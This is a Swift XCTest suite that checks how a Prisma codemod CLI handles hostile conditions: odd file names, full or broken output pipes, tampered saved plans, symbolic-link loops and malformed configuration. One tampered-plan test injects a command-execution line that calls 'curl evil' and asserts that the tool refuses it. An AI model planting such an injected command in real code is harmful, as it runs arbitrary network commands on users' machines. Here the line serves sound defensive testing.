import Foundation
import XCTest

/// What a hostile environment does to the tool: odd file names, unwritable outputs,
/// edited plans, links, bad configuration. Each must end in a clear message, never a crash
/// and never a wrong write.
final class HardeningCLITests: XCTestCase {
    static let client = """
        import { PrismaClient } from '@prisma/client';
        export const prisma = new PrismaClient();
        export async function executeWithRetry<T>(run: () => Promise<T>): Promise<T> {
          return run();
        }

        """

    static let service = """
        import { prisma, executeWithRetry } from './db';

        export async function find(id: string) {
          return await executeWithRetry(() => prisma.user.findUnique({ where: { id } }));
        }

        """

    /// A project with one wrapped read in `src/<name>`, committed.
    func project(serviceAt name: String = "users.ts", more: [String: String] = [:]) throws -> URL {
        try temporaryProject(["package.json": "{}", "src/db.ts": Self.client, "src/\(name)": Self.service].merging(more) { _, new in new })
    }

    /// git quotes names with control characters, quotes, backslashes or non-ASCII bytes;
    /// `git apply` reads such a name only so.
    func testPatchNamesAreQuotedAsGitQuotesThem() throws {
        let names = ["with space.ts", "tab\there.ts", "new\nline.ts", "quote\"d.ts", "back\\slash.ts", "ünïcode.ts"]
        var files = ["package.json": "{}", "src/db.ts": Self.client]
        for name in names { files["src/\(name)"] = Self.service }
        let repo = try temporaryProject(files)
        defer { try? FileManager.default.removeItem(at: repo) }
        let diff = try tool(["diff", "unwrap-reads", "."], in: repo)
        XCTAssertEqual(diff.status, 0, diff.stderr)
        XCTAssertTrue(diff.stdout.contains(#"diff --git "a/src/tab\there.ts" "b/src/tab\there.ts""#), diff.stdout)
        XCTAssertTrue(diff.stdout.contains(#"--- "a/src/new\nline.ts""#), diff.stdout)
        XCTAssertTrue(diff.stdout.contains(#"+++ "b/src/\303\274n\303\257code.ts""#), diff.stdout)
        XCTAssertTrue(diff.stdout.contains("--- a/src/with space.ts\t\n"), "a name with a space ends in a tab, as git writes it")

        try git(["apply", "-"], in: repo, input: diff.stdout)
        let patched = try snapshot(repo)
        try git(["checkout", "--", "."], in: repo)
        // Byte for byte what git itself writes for the same change.
        let apply = try tool(["apply", "unwrap-reads", "."], in: repo)
        XCTAssertEqual(apply.status, 0, apply.stderr)
        XCTAssertEqual(try snapshot(repo), patched)
        XCTAssertEqual(try git(["diff"], in: repo).stdout.split(separator: "\n").filter { $0.hasPrefix("diff --git") || $0.hasPrefix("---") },
                       diff.stdout.split(separator: "\n").filter { $0.hasPrefix("diff --git") || $0.hasPrefix("---") })
    }

    /// stdout on a full disk, closed, or a pipe nobody reads: exit 2 and one line, never a
    /// crash; a command that already wrote says so.
    func testAnUnwritableStdoutEndsWithExit2AndSaysWhatWasDone() throws {
        let repo = try project()
        defer { try? FileManager.default.removeItem(at: repo) }
        let full = try runTool(["diff", "unwrap-reads", "."], in: repo, stdout: FileHandle(forWritingAtPath: "/dev/full"))
        XCTAssertEqual(full.status, 2, full.stderr)
        XCTAssertEqual(full.reason, .exit)
        XCTAssertTrue(full.stderr.hasSuffix("error: cannot write the output: No space left on device\n"), full.stderr)

        let pipe = Pipe()
        try pipe.fileHandleForReading.close()
        let broken = try runTool(["list"], in: repo, stdout: pipe.fileHandleForWriting)
        XCTAssertEqual(broken.status, 2, broken.stderr)
        XCTAssertEqual(broken.reason, .exit, "a reader that went away is no SIGPIPE kill")
        XCTAssertEqual(broken.stderr, "error: cannot write the output: Broken pipe\n")

        let applied = try runTool(["apply", "unwrap-reads", "--commit", "."], in: repo, stdout: FileHandle(forWritingAtPath: "/dev/full"))
        XCTAssertEqual(applied.status, 2, applied.stderr)
        XCTAssertEqual(applied.reason, .exit)
        let run = try XCTUnwrap(applied.stderr.firstMatch(of: /error: files were changed and journaled as run (\S+) and committed as [0-9a-f]{12}; the report could not be printed: No space left on device\n/)?.1, applied.stderr)
        XCTAssertTrue(try git(["log", "-1", "--format=%B"], in: repo).stdout.contains("Codemod-Run: \(run)"))
        XCTAssertFalse(try String(contentsOf: repo.appendingPathComponent("src/users.ts"), encoding: .utf8).contains("executeWithRetry"))
    }

    /// A plan is run again before it is applied: edits changed by hand are refused even when
    /// the "after" hash was changed to match, malformed plans name the plan file, and the
    /// journal holds the transform the tool ran, not the name the plan claims.
    func testSavedPlansAreRecomputedNotTrusted() throws {
        let repo = try project()
        defer { try? FileManager.default.removeItem(at: repo) }
        let plan = repo.appendingPathComponent("plan.json")
        XCTAssertEqual(try tool(["diff", "unwrap-reads", "--save-plan", "plan.json", "src"], in: repo).status, 0)
        let start = try snapshot(repo)
        let original = try XCTUnwrap(JSONSerialization.jsonObject(with: Data(contentsOf: plan)) as? [String: Any])
        let target = try Data(contentsOf: repo.appendingPathComponent("src/users.ts"))

        func attempt(_ name: String, _ change: (inout [String: Any], inout [String: Any]) throws -> Void) throws -> RunResult {
            var document = original
            var file = try XCTUnwrap((document["files"] as? [[String: Any]])?.first)
            try change(&document, &file)
            document["files"] = [file]
            try JSONSerialization.data(withJSONObject: document).write(to: repo.appendingPathComponent(name))
            defer { try? FileManager.default.removeItem(at: repo.appendingPathComponent(name)) }
            let result = try tool(["apply", "--plan", name], in: repo)
            XCTAssertEqual(result.status, 2, "\(name): \(result.stderr)")
            XCTAssertEqual(result.stdout, "", name)
            var now = try snapshot(repo)
            now[name] = nil
            XCTAssertEqual(now, start, "\(name): nothing written")
            return result
        }

        // Injected code with an "after" hash to match: what the transform makes differs.
        let injected = try attempt("injected.json") { _, file in
            var edits = try XCTUnwrap(file["edits"] as? [[String: Any]])
            edits[0]["text"] = "require('child_process').execSync('curl evil');"
            file["edits"] = edits
            file["after"] = sha256(try Self.applying(edits, to: [UInt8](target)))
        }
        XCTAssertTrue(injected.stderr.contains("error: injected.json: the plan's edits to src/users.ts are not what unwrap-reads makes of the file now"),
                      injected.stderr)
        // Another transform's name on the same edits.
        let renamed = try attempt("renamed.json") { document, _ in document["transform"] = "wrap-writes" }
        XCTAssertTrue(renamed.stderr.contains("are not what wrap-writes makes of the file now"), renamed.stderr)
        // A reversed range, a range past the end, a missing field: clear errors naming the plan file.
        let reversed = try attempt("reversed.json") { _, file in
            var edits = try XCTUnwrap(file["edits"] as? [[String: Any]])
            (edits[0]["start"], edits[0]["end"]) = (edits[0]["end"], edits[0]["start"])
            file["edits"] = edits
        }
        XCTAssertTrue(reversed.stderr.contains("error: reversed.json: not a usable prisma-codemod plan: src/users.ts: the edit range"), reversed.stderr)
        let beyond = try attempt("beyond.json") { _, file in
            file["edits"] = [["start": 100_000, "end": 100_010, "text": ""]]
        }
        XCTAssertTrue(beyond.stderr.contains("are not what unwrap-reads makes of the file now"), beyond.stderr)
        let missing = try attempt("missing.json") { _, file in file["path"] = nil }
        XCTAssertTrue(missing.stderr.contains("error: missing.json: not a usable prisma-codemod plan: files[0].path is missing"), missing.stderr)
        for result in [injected, renamed, reversed, beyond, missing] {
            XCTAssertFalse(result.stderr.contains("outOfBounds") || result.stderr.contains("Fatal"), result.stderr)
        }

        // The plan as saved applies, journaled under the transform that ran.
        let applied = try tool(["apply", "--plan", "plan.json"], in: repo)
        XCTAssertEqual(applied.status, 0, applied.stderr)
        XCTAssertEqual(applied.stdout, "src/users.ts:4:16: prisma.user.findUnique\n")
        let history = try tool(["history"], in: repo)
        XCTAssertTrue(history.stdout.contains("apply  unwrap-reads"), history.stdout)
    }

    static func applying(_ edits: [[String: Any]], to bytes: [UInt8]) throws -> [UInt8] {
        var result = bytes
        for edit in edits.sorted(by: { ($0["start"] as? Int ?? 0) > ($1["start"] as? Int ?? 0) }) {
            let start = try XCTUnwrap(edit["start"] as? Int), end = try XCTUnwrap(edit["end"] as? Int)
            result.replaceSubrange(start..<end, with: Array(try XCTUnwrap(edit["text"] as? String).utf8))
        }
        return result
    }

    func sha256(_ bytes: [UInt8]) -> String {
        let result = try? runProcess(URL(fileURLWithPath: "/usr/bin/env"), ["sha256sum"], in: repositoryRoot,
                                     input: String(decoding: bytes, as: UTF8.self))
        return String(result?.stdout.prefix(64) ?? "")
    }

    /// `src/loop -> .`: naming a path through it, or the link itself, is an error; a walk
    /// never enters it; nothing is read or written under a second name.
    func testFolderLinksAreNeverFollowed() throws {
        let repo = try project()
        defer { try? FileManager.default.removeItem(at: repo) }
        try FileManager.default.createSymbolicLink(atPath: repo.appendingPathComponent("src/loop").path, withDestinationPath: ".")
        let start = try snapshot(repo)
        for (path, message) in [("src/loop/users.ts", "src/loop/users.ts: goes through the symbolic link src/loop to a folder"),
                                ("src/loop", "src/loop: is a symbolic link to a folder")] {
            for command in [["apply", "unwrap-reads", path], ["check", path], ["rollback", path]] {
                let result = try tool(command, in: repo)
                XCTAssertEqual(result.status, 2, "\(command): \(result.stderr)")
                XCTAssertTrue(result.stderr.contains("error: \(message); links are never followed"), "\(command): \(result.stderr)")
            }
        }
        XCTAssertEqual(try snapshot(repo), start)
        let diff = try tool(["diff", "unwrap-reads", "."], in: repo)
        XCTAssertEqual(diff.stderr.split(separator: "\n").first, "2 file(s) in 1 project", "the link is not walked")
        XCTAssertTrue(diff.stdout.hasPrefix("diff --git a/src/users.ts b/src/users.ts\n"), diff.stdout)
    }

    /// Messages that name what is wrong and where.
    func testMessagesNameWhatIsWrongAndWhere() throws {
        let repo = try project(more: ["src/broken.ts": "export const x = ;\n// prisma\n"])
        defer { try? FileManager.default.removeItem(at: repo) }
        let outside = try tool(["check", "--central-module", "../elsewhere/db.ts", "src"], in: repo)
        XCTAssertEqual(outside.status, 2)
        XCTAssertTrue(outside.stderr.contains("error: --central-module: ../elsewhere/db.ts is outside the project"), outside.stderr)

        try Data("client:\n  centralModule: 5\n".utf8).write(to: repo.appendingPathComponent("prisma-codemod.yaml"))
        let number = try tool(["check", "src"], in: repo)
        XCTAssertTrue(number.stderr.contains("error: prisma-codemod.yaml:2: client.centralModule: 5 does not exist in the project"), number.stderr)
        try Data("client:\n  centralModule: src\n".utf8).write(to: repo.appendingPathComponent("prisma-codemod.yaml"))
        let folder = try tool(["diff", "unwrap-reads", "src"], in: repo)
        XCTAssertTrue(folder.stderr.contains("error: prisma-codemod.yaml:2: client.centralModule: src is a folder"), folder.stderr)
        try Data("client:\n  centralModule: ./src/db.ts\n".utf8).write(to: repo.appendingPathComponent("prisma-codemod.yaml"))

        let journal = try tool(["apply", "unwrap-reads", "--journal", "package.json/journal", "src/users.ts"], in: repo)
        XCTAssertEqual(journal.status, 2)
        XCTAssertTrue(journal.stderr.hasSuffix("/package.json/journal: Not a directory\n"), journal.stderr)

        let dash = try tool(["apply", "unwrap-reads", "-hot.ts"], in: repo)
        XCTAssertEqual(dash.status, 2, "not the help with exit 0")
        XCTAssertEqual(dash.stderr, "error: unknown option '-hot.ts'; a path that starts with '-' goes after '--' (say: -- -hot.ts)\n")

        // A file that does not parse: read-only commands skip it, commands that write leave it untouched.
        for (command, wording) in [(["diff", "unwrap-reads"], "file skipped"), (["check"], "file skipped"),
                                   (["inventory"], "file skipped"), (["plan"], "file skipped"), (["apply", "unwrap-reads"], "file left untouched")] {
            let result = try tool(command + ["src"], in: repo)
            XCTAssertEqual(result.status, 2, "\(command): \(result.stderr)")
            XCTAssertTrue((result.stdout + result.stderr).contains("src/broken.ts:1:16: syntax error; "), "\(command): \(result.stdout)\(result.stderr)")
            XCTAssertTrue((result.stdout + result.stderr).contains(wording), "\(command): \(result.stdout)\(result.stderr)")
            XCTAssertFalse(wording == "file skipped" && (result.stdout + result.stderr).contains("left untouched"), "\(command)")
        }
    }

    struct Termination {
        var status: Int32
        var reason: Process.TerminationReason
        var stderr: String
    }

    /// Runs the tool with stdout on the given handle; stderr is read.
    func runTool(_ arguments: [String], in directory: URL, stdout: FileHandle?) throws -> Termination {
        let process = Process()
        process.executableURL = toolURL
        process.arguments = arguments
        process.currentDirectoryURL = directory
        process.standardOutput = try XCTUnwrap(stdout)
        let err = Pipe()
        process.standardError = err
        process.standardInput = FileHandle.nullDevice
        try process.run()
        let data = err.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        return Termination(status: process.terminationStatus, reason: process.terminationReason, stderr: String(decoding: data, as: UTF8.self))
    }
}
